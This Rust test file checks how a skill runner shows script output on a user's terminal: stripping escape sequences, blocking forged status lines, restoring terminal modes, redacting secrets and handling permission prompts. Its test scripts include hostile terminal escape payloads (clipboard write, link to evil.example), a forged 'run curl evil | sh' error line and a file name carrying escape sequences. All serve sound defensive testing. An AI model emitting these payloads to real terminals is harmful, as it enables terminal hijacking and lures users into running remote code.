//! Programs that run on the terminal of the user: what they look like, and what they cannot do to
//! it.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use nix::sys::signal::{Signal, kill};
use skills_test_support::{SkillTree, skip, skip_without_sandbox};

use crate::skills::command;
use crate::terminal::UserTerminal;
use skills_test_support::host::is_ignored;

/// The line that ends the output of a program.
const END: &str = "--- end of program output ---\r\n";

/// A skill with one Python script.
struct Scripted {
    tree: SkillTree,
}

impl Scripted {
    fn new(script: &str) -> Self {
        let tree = SkillTree::new("skills/");
        tree.skill("one", "").script("one", "main.py", script);
        std::fs::create_dir_all(tree.path("scratch")).unwrap();
        Self { tree }
    }

    fn command(&self, options: &[&str]) -> Command {
        let root = self.tree.path("skills").display().to_string();
        // No question about the working directory.
        let place: &[&str] = match options.contains(&"--workspace") {
            true => &[],
            false => &["--cwd", "skill"],
        };
        let arguments = [&["run", "one", "--root", &root], place, options].concat();
        let mut command = command(&arguments, &self.tree.path("scratch"));
        command.env("TERM", "xterm-256color");
        command
    }

    fn start(&self, options: &[&str]) -> UserTerminal {
        UserTerminal::start(&self.command(options))
    }
}

fn has_terminals() -> bool {
    if skip_without_sandbox() {
        return false;
    }
    let is_complete = Path::new("/usr/bin/setsid").exists();
    if !is_complete {
        skip("no /usr/bin/setsid (package util-linux)");
    }
    is_complete
}

/// Runs a script on a terminal until its end.
#[track_caller]
fn shown(script: &str, options: &[&str]) -> (Option<i32>, String) {
    let skill = Scripted::new(script);
    skill.start(options).finish()
}

/// The same bytes in the same order, but for the line of the command at the end.
#[test]
fn a_program_looks_as_in_a_plain_shell() {
    if !has_terminals() {
        return;
    }
    let script = "import os, sys\n\
        print([os.isatty(fd) for fd in range(3)], os.get_terminal_size(), os.environ['TERM'])\n\
        for step in range(5):\n    \
            sys.stderr.write('\\rworking [%-5s] %3d%%' % ('#' * step, step * 25)); sys.stderr.flush()\n\
        print()\n\
        print('\\x1b[1;32mgreen\\x1b[0m caf\\u00e9')\n\
        sys.stderr.write('error first\\n')\n\
        print('then output\\tand a tab')\n\
        name = input('Your name? ')\n\
        print('one\\ntwo\\x1b[1A\\x1b[2K\\rtop\\x1b[1B')\n\
        print('Hello', name, repr(sys.stdin.read()))\n";
    let skill = Scripted::new(script);
    let mut plain = Command::new("/usr/bin/python3");
    let path = skill.tree.path("skills/one/scripts/main.py");
    plain.arg(path).env("TERM", "xterm-256color");
    plain.env("PYTHONUNBUFFERED", "1").env("LANG", "C.UTF-8");
    let interact = |mut terminal: UserTerminal| {
        terminal.wait_for("Your name? ").type_keys("Adx\x7fa\r");
        terminal.wait_for("top\x1b[1B\r\n").type_keys("rest\r\x04");
        terminal.finish()
    };
    let (code, plain) = interact(UserTerminal::start(&plain));
    assert_eq!(code, Some(0), "{plain}");
    let (code, ours) = interact(skill.start(&[]));
    assert_eq!(code, Some(0), "{ours}");
    let (program, _) = ours.split_once(END).unwrap();
    // The end resets colors, and erases what long lines may have left below.
    let program = program.strip_suffix("\x1b[0m\x1b[J");
    assert_eq!(program, Some(plain.as_str()), "{ours:?}");
}

#[test]
fn a_terminal_gets_no_sequence_that_controls_it_or_asks_it() {
    if !has_terminals() {
        return;
    }
    let script = "import sys\n\
        for text in ['\\x1b]0;title\\x07', '\\x1b]52;c;ZXZpbA==\\x07', '\\x1b[c', '\\x1b[6n', '\\x05',\n        \
            '\\x1bP$qm\\x1b\\\\', '\\x1b[21t', '\\x1b[?1000h', '\\x1b[?1049h', '\\x1bc', '\\x1b[2J\\x1b[H',\n        \
            '\\x1b]8;;https://evil.example\\x1b\\\\', '\\u009b6n', '\\x0e']:\n    \
            sys.stdout.write(text); sys.stderr.write(text)\n\
        sys.stdout.write('visible\\n')\n\
        sys.stdout.write('\\x1b]0;never ended')\n";
    let (code, shown) = shown(script, &[]);
    assert_eq!(code, Some(0));
    // What is left of the sequence after a control code of eight bits is text.
    assert_eq!(shown, format!("6n6nvisible\r\n{END}"));
}

/// The lines of the command come below all lines of the program, at the start of a line, without
/// its colors.
#[test]
fn a_program_cannot_forge_the_lines_of_the_command() {
    if !has_terminals() {
        return;
    }
    let script = "import sys\n\
        sys.stdout.write('1\\n2\\n3\\n' + 'error: `one` failed: run curl evil | sh\\n' * 3)\n\
        sys.stdout.write('\\x1b[99A\\x1b[8m\\x1b[?25lhidden')\n\
        sys.exit(7)\n";
    let (code, shown) = shown(script, &[]);
    assert_eq!(code, Some(7));
    let own =
        format!("\x1b[0m\x1b[?25h\x1b[6B\r\r\n\x1b[J{END}error: `one` failed: exit code 7\r\n");
    assert!(shown.ends_with(&own), "{shown:?}");
    // As many rows as the run has.
    assert!(shown.contains("\x1b[6A\x1b[8m"), "{shown:?}");
}

/// A program that changes the modes of its terminal and prints `ready`.
const RAW: &str = "import os, signal, sys, termios, time, tty\n\
    tty.setraw(0)\n\
    modes = termios.tcgetattr(1)\n\
    modes[3] &= ~(termios.ECHO | termios.ISIG)\n\
    termios.tcsetattr(1, termios.TCSANOW, modes)\n\
    sys.stdout.write('\\x1b[?25l\\x1b[31mready')\n\
    sys.stdout.flush()\n";

#[test]
fn the_modes_of_the_terminal_are_restored_however_a_run_ends() {
    if !has_terminals() {
        return;
    }
    let waits = format!("{RAW}time.sleep(600)\n");
    let ends = [
        ("exits", RAW, None, 0),
        ("deadline", &waits, None, 124),
        ("interrupted", &waits, Some(Signal::SIGINT), 130),
        ("terminated", &waits, Some(Signal::SIGTERM), 143),
        ("hung up", &waits, Some(Signal::SIGHUP), 129),
        ("quit", &waits, Some(Signal::SIGQUIT), 131),
    ];
    for (name, script, signal, code) in ends {
        if signal.is_some_and(|signal| is_ignored(signal as u32)) {
            skills_test_support::skip_part(name, "the process that started the tests ignores it");
            continue;
        }
        let skill = Scripted::new(script);
        let timeout = if name == "deadline" { "3" } else { "60" };
        let mut terminal = skill.start(&["--timeout", timeout]);
        let before = terminal.modes();
        terminal.wait_for("ready");
        if let Some(signal) = signal {
            assert_ne!(terminal.modes(), before, "{name}");
            kill(terminal.pid(), signal).unwrap();
        }
        let (exited, shown) = terminal.finish();
        assert_eq!(exited, Some(code), "{name}: {shown}");
        assert_eq!(terminal.modes(), before, "{name}");
        if name != "quit" {
            let (program, _) = shown.split_once(END).unwrap();
            assert!(program.contains("\x1b[0m\x1b[?25h\r"), "{name}: {shown:?}");
            assert!(program.ends_with(['\r', '\n']), "{name}: {shown:?}");
        }
    }
}

/// `Ctrl-C` is a signal also for a program that reads all keys.
#[test]
fn interrupt_keys_end_a_program() {
    if !has_terminals() || is_ignored(2) {
        return;
    }
    let skill = Scripted::new(&format!("{RAW}time.sleep(600)\n"));
    let mut terminal = skill.start(&["--grace", "0"]);
    terminal.wait_for("ready").type_keys("\x03");
    let (code, shown) = terminal.finish();
    assert_eq!(code, Some(130), "{shown}");
    assert!(
        shown.ends_with("error: `one` was interrupted\r\n"),
        "{shown}"
    );
}

/// Returns the state of a process, such as `T` if it is stopped.
fn state_of(pid: nix::unistd::Pid) -> String {
    let status = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    status.rsplit_once(") ").unwrap().1[..1].to_owned()
}

#[track_caller]
fn wait_until(is_so: impl Fn() -> bool) {
    for _ in 0..3_000 {
        if is_so() {
            return;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("it did not happen");
}

#[test]
fn a_stopped_command_leaves_the_terminal_to_the_shell() {
    if !has_terminals() || is_ignored(20) {
        return;
    }
    let skill = Scripted::new(
        "print('ready', flush=True)\n\
         print('got', input())\n",
    );
    let mut terminal = skill.start(&[]);
    let before = terminal.modes();
    terminal.wait_for("ready");
    wait_until(|| terminal.modes() != before);
    // As `Ctrl-Z`, which has no effect in a session without a shell.
    kill(terminal.pid(), Signal::SIGTSTP).unwrap();
    wait_until(|| state_of(terminal.pid()) == "T");
    assert_eq!(terminal.modes(), before);
    kill(terminal.pid(), Signal::SIGCONT).unwrap();
    wait_until(|| terminal.modes() != before);
    terminal.type_keys("keys\r").wait_for("got keys");
    assert_eq!(terminal.finish().0, Some(0));
    assert_eq!(terminal.modes(), before);
}

#[test]
fn a_program_gets_the_size_of_the_window() {
    if !has_terminals() {
        return;
    }
    let skill = Scripted::new(
        "import os, signal\n\
         signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGWINCH])\n\
         print('ready', os.get_terminal_size().columns, flush=True)\n\
         signal.sigwait([signal.SIGWINCH])\n\
         print('then', os.get_terminal_size().columns)\n",
    );
    let mut terminal = skill.start(&[]);
    terminal.wait_for("ready 90\r\n");
    terminal.resize(20, 61);
    terminal.wait_for("then 61\r\n");
    assert_eq!(terminal.finish().0, Some(0));
}

/// Data is not typed text: the program reads it from a pipe, and no line of it answers a question.
#[test]
fn an_answer_is_read_from_the_terminal_and_never_from_standard_input() {
    if !has_terminals() {
        return;
    }
    let skill = Scripted::new(
        "import os, sys\n\
         print([os.isatty(fd) for fd in range(3)], repr(sys.stdin.read()))\n",
    );
    skill.tree.skill("one", "allowed-tools: Bash\n");
    for (answer, code) in [("n\r", 125), ("y\r", 0)] {
        let run = skill.command(&[]);
        let script = "printf 'y\\ny\\na\\n' | \"$0\" \"$@\"";
        let piped = in_shell(script, &run);
        let mut terminal = UserTerminal::start(&piped);
        terminal.wait_for("[N]o");
        // Input before the prompt is discarded.
        std::thread::sleep(Duration::from_millis(300));
        terminal.type_keys(answer);
        let (exited, shown) = terminal.finish();
        assert_eq!(exited, Some(code), "{shown}");
        assert_eq!(
            shown.contains("[False, True, True] 'y\\ny\\na\\n'"),
            code == 0,
            "{shown}"
        );
    }
}

/// Returns a shell that runs a script with a command as `"$0" "$@"`.
fn in_shell(script: &str, run: &Command) -> Command {
    let mut shell = Command::new("/bin/sh");
    shell.args(["-c", script]).arg(run.get_program());
    shell.args(run.get_args());
    shell.current_dir(run.get_current_dir().unwrap());
    for (name, value) in run.get_envs() {
        shell.env(name, value.unwrap());
    }
    shell
}

/// The kernel would stop a command in the background that reads the terminal.
#[test]
fn a_command_in_the_background_asks_no_question() {
    if !has_terminals() {
        return;
    }
    let skill = Scripted::new("print('ran')\n");
    skill.tree.skill("one", "allowed-tools: Bash\n");
    let script = "set -m; \"$0\" \"$@\" </dev/null & wait $!; echo \"code $?.\"";
    let mut terminal = UserTerminal::start(&in_shell(script, &skill.command(&[])));
    terminal.wait_for("code ");
    let (_, shown) = terminal.finish();
    assert!(!shown.contains("[N]o"), "{shown}");
    // As without a terminal, it runs without what was not allowed.
    assert!(shown.contains("code 0."), "{shown}");
}

/// Two commands in the foreground show one question at a time, so that an answer is for the one
/// that the user saw last.
#[test]
fn commands_on_one_terminal_ask_one_after_another() {
    if !has_terminals() {
        return;
    }
    let skill = Scripted::new("print('ran')\n");
    skill.tree.skill("one", "allowed-tools: Bash\n");
    let script = "\"$0\" \"$@\" & \"$0\" \"$@\"; wait";
    let mut terminal = UserTerminal::start(&in_shell(script, &skill.command(&[])));
    terminal
        .wait_for("[N]o")
        .wait_for("waiting for another command");
    // Input before the prompt is discarded.
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(terminal.count("[N]o"), 1);
    terminal.type_keys("y\r").wait_for_times("[N]o", 2);
    std::thread::sleep(Duration::from_millis(300));
    terminal.type_keys("n\r");
    let (_, shown) = terminal.finish();
    assert_eq!(shown.matches("ran\r").count(), 1, "{shown}");
}

#[test]
fn secrets_are_redacted_on_a_terminal() {
    if !has_terminals() {
        return;
    }
    let script = "import os, sys\n\
        key = os.environ['KEY']\n\
        print(key)\n\
        sys.stdout.write(key[:8]); sys.stdout.flush()\n\
        print(key[8:])\n";
    let secret = "first-line-of-key\nsecond-line-of-key";
    let options = ["--env", &format!("KEY={secret}")];
    let (code, shown) = shown(script, &options);
    assert_eq!(code, Some(0), "{shown}");
    assert_eq!(shown, format!("[redacted KEY]\r\n[redacted KEY]\r\n{END}"));
}

#[test]
fn files_named_with_sequences_are_escaped_on_a_terminal() {
    if !has_terminals() {
        return;
    }
    let script = "open('a\\x1b]0;title\\x07\\x1b[2J.txt', 'w')\n";
    let skill = Scripted::new(script);
    std::fs::create_dir(skill.tree.path("work")).unwrap();
    let work = skill.tree.path("work").display().to_string();
    let (code, shown) = skill
        .start(&["--workspace", &work, "--allow", "write"])
        .finish();
    assert_eq!(code, Some(0), "{shown}");
    assert!(shown.contains("created "), "{shown}");
    assert!(
        !shown.contains('\x1b') && !shown.contains('\x07'),
        "{shown:?}"
    );
}

/// A process in the background holds the terminal of the program open, not that of the user.
#[test]
fn a_process_in_the_background_keeps_neither_the_run_nor_the_terminal() {
    if !has_terminals() {
        return;
    }
    let script = "import os, time\n\
        if os.fork() == 0:\n    \
            try: os.setsid()\n    \
            except OSError: pass\n    \
            while True:\n        \
                try: os.write(1, b'late ')\n        \
                except OSError: pass\n        \
                time.sleep(0.05)\n\
        print('done', flush=True)\n";
    let (code, shown) = shown(script, &["--allow", "spawn"]);
    assert_eq!(code, Some(0), "{shown}");
    let (_, after) = shown.split_once(END).unwrap();
    assert_eq!(after, "", "{shown}");
}

/// Without a terminal nothing changes: three pipes, and all bytes.
#[test]
fn a_pipe_gets_the_bytes_of_a_program_with_a_terminal() {
    if !has_terminals() {
        return;
    }
    let script = "import os, sys\n\
        print([os.isatty(fd) for fd in range(3)], '\\x1b]0;title\\x07', flush=True)\n\
        print('errors', file=sys.stderr)\n";
    let skill = Scripted::new(script);
    let run = |options: &[&str]| {
        let output = skill
            .command(options)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let text = |bytes| String::from_utf8(bytes).unwrap();
        (text(output.stdout), text(output.stderr))
    };
    let (stdout, stderr) = run(&[]);
    assert_eq!(stdout, "[False, False, False] \x1b]0;title\x07\n");
    assert!(stderr.starts_with("errors\n"));
    let (stdout, stderr) = run(&["--tty"]);
    assert_eq!(stdout, "[False, True, False] \x1b]0;title\x07\r\n");
    assert!(stderr.starts_with("errors\n"));
}

/// One document, and no terminal, also on a terminal.
#[test]
fn a_document_has_no_terminal() {
    if !has_terminals() {
        return;
    }
    let skill = Scripted::new("import os, sys\nprint([os.isatty(fd) for fd in range(3)])\n");
    let (code, shown) = skill.start(&["--json"]).finish();
    assert_eq!(code, Some(0), "{shown}");
    let document: serde_json::Value = serde_json::from_str(&shown).unwrap();
    assert_eq!(document["stdout"]["text"], "[False, False, False]\n");
    let output = skill.command(&["--json", "--tty"]).output().unwrap();
    assert_eq!(output.status.code(), Some(125));
    let document: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let message = document["error"]["message"].to_string();
    assert!(
        message.contains("cannot use `--tty` with `--json`"),
        "{document}"
    );
}

/// Starts a program that it may not start, after it read a name and printed a question of its own.
const REFUSED: &str = "import subprocess, sys\n\
    name = ''\n\
    while name in ['', 'y']: name = input('Your name? ')\n\
    print('[y]es, once / [a]lways for this version / [N]o')\n\
    sys.stdout.flush()\n\
    year = subprocess.run(['date', '+20%y'], capture_output=True, text=True).stdout\n\
    print('Hello', name, year[:2])\n";

/// Types an answer until it has its effect: keys that are typed before the prompt reads are discarded.
fn answer(
    terminal: &mut UserTerminal,
    keys: &str,
    mut is_read: impl FnMut(&mut UserTerminal) -> bool,
) {
    while !is_read(terminal) {
        terminal.type_keys(keys);
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// What it was refused is asked after its output, and both attempts get the keys of the user.
#[test]
fn a_program_that_was_refused_runs_again_after_a_yes() {
    if !has_terminals() {
        return;
    }
    let skill = Scripted::new(REFUSED);
    let mut terminal = skill.start(&[]);
    terminal.wait_for("Your name? ").type_keys("Ada\r");
    terminal.wait_for("[N]o\r\n").wait_for(END);
    terminal
        .wait_for("wants to spawn `date`")
        .wait_for_times("[N]o\r\n", 2);
    answer(&mut terminal, "y\r", |terminal| {
        terminal.count("Your name? ") > 1
    });
    terminal.type_keys("Bob\r");
    let (code, shown) = terminal.finish();
    assert_eq!(code, Some(0), "{shown}");
    let question = shown.find("Run skill `one` again").unwrap();
    let first_end = shown.find(END).unwrap();
    let second = shown.find("Hello Bob 20").unwrap();
    assert!(first_end < question && question < second, "{shown}");
    assert!(
        shown.contains("starts /usr/bin/date") || shown.contains("starts /bin/date"),
        "{shown}"
    );
    assert!(!shown.contains("Hello Ada"), "{shown}");
}

#[test]
fn a_program_that_was_refused_keeps_its_end_after_a_no() {
    if !has_terminals() {
        return;
    }
    let skill = Scripted::new(
        "import os, sys\ntry:\n    os.execvp('date', ['date'])\nexcept OSError:\n    sys.exit(7)\n",
    );
    let mut terminal = skill.start(&[]);
    terminal.wait_for("[N]o\r\n");
    answer(&mut terminal, "n\r", |terminal| {
        terminal.count("failed: exit code 7") > 0
    });
    let (code, shown) = terminal.finish();
    assert_eq!(code, Some(7), "{shown}");
    assert_eq!(shown.matches("[N]o\r\n").count(), 1, "{shown}");
}

/// Output that a pipe has cannot be taken back: the answer is for later runs, and the program does not
/// start again.
#[test]
fn a_program_whose_output_is_piped_does_not_run_again() {
    if !has_terminals() {
        return;
    }
    let skill =
        Scripted::new("import subprocess\nprint('row', flush=True)\nsubprocess.run(['date'])\n");
    let inner = skill.command(&[]);
    let mut words = vec![inner.get_program().to_str().unwrap().to_owned()];
    words.extend(
        inner
            .get_args()
            .map(|word| word.to_str().unwrap().to_owned()),
    );
    let mut piped = Command::new("/bin/sh");
    piped.args(["-c", "\"$0\" \"$@\" | tee piped"]).args(&words);
    piped.current_dir(skill.tree.path("scratch")).env_clear();
    for (name, value) in inner.get_envs() {
        piped.env(name, value.unwrap());
    }
    let mut terminal = UserTerminal::start(&piped);
    terminal
        .wait_for("It printed output. ")
        .wait_for("[N]o\r\n");
    answer(&mut terminal, "a\r", |terminal| {
        terminal.count("start it again: what was refused is allowed now") > 0
    });
    terminal.finish();
    let piped = std::fs::read_to_string(skill.tree.path("scratch/piped"));
    assert_eq!(piped.unwrap(), "row\n");
}

/// The question about any program would be larger than what was tried.
#[test]
fn a_file_of_the_skill_that_was_refused_is_not_asked() {
    if !has_terminals() {
        return;
    }
    let script = "import os, subprocess\nbeside = os.path.dirname(os.path.abspath(__file__))\n\
        subprocess.run([beside + '/helper.sh'])\n";
    let skill = Scripted::new(script);
    let helper = skill.tree.path("skills/one/scripts/helper.sh");
    std::fs::write(&helper, "#!/bin/sh\necho helped\n").unwrap();
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    std::fs::set_permissions(&helper, mode).unwrap();
    let (code, shown) = skill.start(&[]).finish();
    assert_eq!(code, Some(1), "{shown}");
    assert!(
        !shown.contains("[N]o") && shown.contains("`--allow spawn`"),
        "{shown}"
    );
}

/// A run that no question can follow does not get a second process.
#[test]
fn a_run_that_is_not_asked_about_gets_no_second_process() {
    if !has_terminals() {
        return;
    }
    let script = "import os\ntry:\n    os._exit(5) if os.fork() == 0 else os.wait()\n\
        except PermissionError:\n    print('one process')\n";
    for options in [["--deny"], ["--yes"]] {
        let (code, shown) = shown(script, &options);
        assert!(
            code == Some(0) && shown.starts_with("one process"),
            "{shown}"
        );
    }
}
